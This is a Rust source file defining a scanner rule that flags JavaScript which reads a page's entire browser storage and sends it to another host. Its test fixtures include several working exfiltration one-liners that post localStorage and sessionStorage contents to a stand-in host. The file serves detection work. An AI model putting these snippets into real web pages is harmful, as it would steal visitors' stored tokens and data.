//! `whole-storage-carried-off`.

use crate::facts::Atom;
use crate::signals::near::Near;
use crate::signals::{Evidence, Held, Signal, one};
use crate::{ClassSet, Severity};

pub(super) const SIGNAL: Signal = Signal {
    id: "whole-storage-carried-off",
    description: "The script reads everything this page stores in the browser and immediately sends it to another host.",
    severity: Severity::High,
    classes: ClassSet::MALWARE,
    needs: &[one(&[Atom::AllStorageSent])],
    within: 0,
    only_if: Some(is_near),
    #[cfg(test)]
    cases: crate::signals::Cases {
        with: &[
            r#"fetch('https://c.example/t',{method:'POST',body:JSON.stringify(localStorage)})"#,
            r#"fetch('https://c.example/t',{method:'POST',body:JSON.stringify({...localStorage,...sessionStorage})})"#,
            r#"let d={};for(let i=0;i<localStorage.length;i++){let k=localStorage.key(i);d[k]=localStorage.getItem(k)}fetch('https://c.example/t',{method:'POST',body:JSON.stringify(d)})"#,
            r#"var s='';for(var k in localStorage){s+=k+'='+localStorage[k]+';'}new Image().src='https://c.example/?'+encodeURIComponent(s)"#,
        ],
        without: &[
            r#"fetch('https://c.example/t?n='+localStorage.getItem('theme'))"#,
            r#"fetch('/sync',{method:'POST',body:JSON.stringify(localStorage)})"#,
        ],
    },
};

/// Whether the storage is read and sent in a few lines: what is far apart in a bundle is not one thing.
fn is_near(evidence: &Evidence<'_>, held: Held) -> bool {
    held.last - held.first <= NEAR && Near::new(evidence, held, 6).runs_unasked(held.last as usize)
}

const NEAR: u32 = 90;
